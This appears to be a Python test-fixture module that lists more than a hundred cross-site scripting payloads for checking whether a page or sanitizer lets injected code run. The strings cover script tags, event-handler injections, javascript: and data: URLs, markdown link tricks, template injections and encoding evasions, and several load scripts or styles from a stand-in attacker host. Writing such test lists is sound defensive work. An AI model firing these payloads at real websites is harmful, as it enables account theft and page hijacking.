"""What people try in order to run something in somebody else's page. Each would show itself: by a dialog, by a global,
by something that the policy stops, or by a request to another host."""

from __future__ import annotations

from itertools import product

RUN = "window.__ran=1,alert(1)"

_TAGS = (
    "img src=x",
    "svg",
    "video src=x",
    "audio src=x",
    "body",
    "details open",
    "input autofocus",
    "marquee",
)
_HANDLERS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onanimationstart")

_WRITTEN = (
    f"<script>{RUN}</script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,alert(1)'></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>go</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    "<a href=data:text/html,<script>alert(1)</script>>click</a>",
    "<img src=//evil.example/pixel.png>",
    "<img src='x' srcset='//evil.example/a 2x'>",
    "<picture><source srcset=//evil.example/p></picture>",
    "<video poster=//evil.example/p.png></video>",
    "<input type=image src=//evil.example/x>",
    "<table background=//evil.example/x>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'></use></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<xss style=animation-name:breathe onanimationstart={RUN}>x</xss>",
    f"[click](javascript:{RUN})",
    f"[click]( javascript:{RUN} )",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:alert(1))",
    "[click](//evil.example/)",
    "![picture](https://evil.example/pixel.png)",
    "![picture](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    '[a](https://evil.example/"onmouseover="alert(1))',
    '<https://evil.example/"onclick=alert(1)>',
    "https://evil.example/'onclick='alert(1)",
    "**<img src=x onerror=alert(1)>**",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode',
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <svg onload=alert(1)> | d |",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)} <%= alert(1) %>",
    "'-alert(1)-' \"-alert(1)-\" `-alert(1)-`",
    "\u2028\u2029<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "__proto__ constructor prototype hasOwnProperty toString",
)

PAYLOADS: tuple[str, ...] = (
    *_WRITTEN,
    *(f'"><{tag} {handler}={RUN}>' for tag, handler in product(_TAGS, _HANDLERS)),
)
"""More than a hundred."""

NAME = "<img/src=x/onerror=alert(1)>"
"""One that fits where only visible ASCII characters do."""
